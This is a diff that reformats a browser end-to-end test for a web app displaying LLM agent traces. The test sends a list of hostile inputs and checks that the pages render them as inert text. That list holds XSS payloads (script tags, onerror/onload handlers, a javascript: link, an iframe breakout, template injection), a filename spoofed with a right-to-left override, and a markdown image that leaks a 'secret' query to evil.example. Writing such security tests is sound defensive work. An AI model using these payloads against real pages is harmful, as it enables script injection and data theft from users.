@@ -10,8 +10,15 @@ import { eventually, startServer } from '../harness/server.ts'
 
 /** Everything that a page could take for more than text (HX-50, HX-51, HX-54). */
 const hostile = [
-  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '[a](javascript:alert(1))', '![](http://evil.example/?q=secret)',
-  '"><iframe srcdoc="<script>alert(1)</script>">', '\u202egnp.exe', '\u001b[31mred', '{{constructor.constructor("alert(1)")()}}',
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '[a](javascript:alert(1))',
+  '![](http://evil.example/?q=secret)',
+  '"><iframe srcdoc="<script>alert(1)</script>">',
+  '\u202egnp.exe',
+  '\u001b[31mred',
+  '{{constructor.constructor("alert(1)")()}}',
 ]
 
 describe.skipIf(lacks('chromium'))('the pages on a real server', () => {
@@ -23,14 +30,33 @@ describe.skipIf(lacks('chromium'))('the pages on a real server', () => {
 
   beforeAll(async () => {
     ;[server, browser] = await Promise.all([startServer(), launchBrowser()])
-    await sendTrace(server.url, { service: 'shop', spans: [{ name: 'agent', attributes: { 'input.value': 'Hello there', 'output.value': 'Good day' } }] })
+    await sendTrace(server.url, {
+      service: 'shop',
+      spans: [{ name: 'agent', attributes: { 'input.value': 'Hello there', 'output.value': 'Good day' } }],
+    })
     failedId = await sendTrace(server.url, {
       service: 'shop',
       spans: [
-        { id: '00000000000000a1', name: 'support-agent', error: 'refund failed', attributes: { 'openinference.span.kind': 'AGENT', 'input.value': 'I want my money back' } },
+        {
+          id: '00000000000000a1',
+          name: 'support-agent',
+          error: 'refund failed',
+          attributes: { 'openinference.span.kind': 'AGENT', 'input.value': 'I want my money back' },
+        },
         { id: '00000000000000a2', parent: '00000000000000a1', name: 'resolve', error: 'refund failed' },
-        { id: '00000000000000a3', parent: '00000000000000a2', name: 'issue_refund', error: 'too large', attributes: { 'openinference.span.kind': 'TOOL', 'tool.name': 'issue_refund' } },
-        { id: '00000000000000a4', parent: '00000000000000a1', name: 'chat', attributes: { 'openinference.span.kind': 'LLM', 'llm.model_name': 'gpt-4o', 'llm.token_count.prompt': 1000 } },
+        {
+          id: '00000000000000a3',
+          parent: '00000000000000a2',
+          name: 'issue_refund',
+          error: 'too large',
+          attributes: { 'openinference.span.kind': 'TOOL', 'tool.name': 'issue_refund' },
+        },
+        {
+          id: '00000000000000a4',
+          parent: '00000000000000a1',
+          name: 'chat',
+          attributes: { 'openinference.span.kind': 'LLM', 'llm.model_name': 'gpt-4o', 'llm.token_count.prompt': 1000 },
+        },
       ],
     })
     const { trace } = (await (await fetch(`${server.url}/api/assay/v1/traces/tr-${failedId}`)).json()) as TraceSkeleton
@@ -76,8 +102,11 @@ describe.skipIf(lacks('chromium'))('the pages on a real server', () => {
     const page = await open(`/p/${projectId}/traces/tr-${failedId}`)
     await page.locator('[role=treegrid] [aria-selected=true]').waitFor()
     await page.keyboard.press('-')
-    const assessments = async () => ((await (await fetch(`${server.url}/api/assay/v1/traces/tr-${failedId}`)).json()) as TraceSkeleton).trace.assessments
-    expect(await eventually(assessments, (found) => found.length > 0)).toMatchObject([{ kind: 'feedback', value: false, source: { type: 'HUMAN' } }])
+    const assessments = async () =>
+      ((await (await fetch(`${server.url}/api/assay/v1/traces/tr-${failedId}`)).json()) as TraceSkeleton).trace.assessments
+    expect(await eventually(assessments, (found) => found.length > 0)).toMatchObject([
+      { kind: 'feedback', value: false, source: { type: 'HUMAN' } },
+    ])
   })
 
   it('show a new trace without a reload', async () => {
@@ -101,17 +130,29 @@ describe.skipIf(lacks('chromium'))('the pages on a real server', () => {
     const values = Object.fromEntries(hostile.map((text, i) => [`${text} ${i}`, text]))
     const traceId = await sendTrace(server.url, {
       service: hostile[0] ?? '',
-      spans: [{
-        name: hostile[1] ?? '', error: hostile[2] ?? '',
-        attributes: { ...values, 'openinference.span.kind': 'LLM', 'input.value': hostile.join('\n'), 'output.value': hostile.join('\n'), 'session.id': hostile[4] ?? '' },
-      }],
+      spans: [
+        {
+          name: hostile[1] ?? '',
+          error: hostile[2] ?? '',
+          attributes: {
+            ...values,
+            'openinference.span.kind': 'LLM',
+            'input.value': hostile.join('\n'),
+            'output.value': hostile.join('\n'),
+            'session.id': hostile[4] ?? '',
+          },
+        },
+      ],
     })
     const { trace } = (await (await fetch(`${server.url}/api/assay/v1/traces/tr-${traceId}`)).json()) as TraceSkeleton
     const page = await open(`/p/${trace.experimentId}/traces`)
     await page.getByText('<img src=x onerror=alert(1)>').first().waitFor()
     await page.goto(`${server.url}/p/${trace.experimentId}/traces/tr-${traceId}`)
     await page.locator('[role=treegrid] [aria-selected=true]').waitFor()
-    await page.getByText(/^Attributes/).first().click()
+    await page
+      .getByText(/^Attributes/)
+      .first()
+      .click()
     await page.getByText('<svg onload=alert(1)>').first().waitFor()
     expect(await page.locator('iframe, img[src^="http"], a[href^="javascript"]').count()).toBe(0)
   })
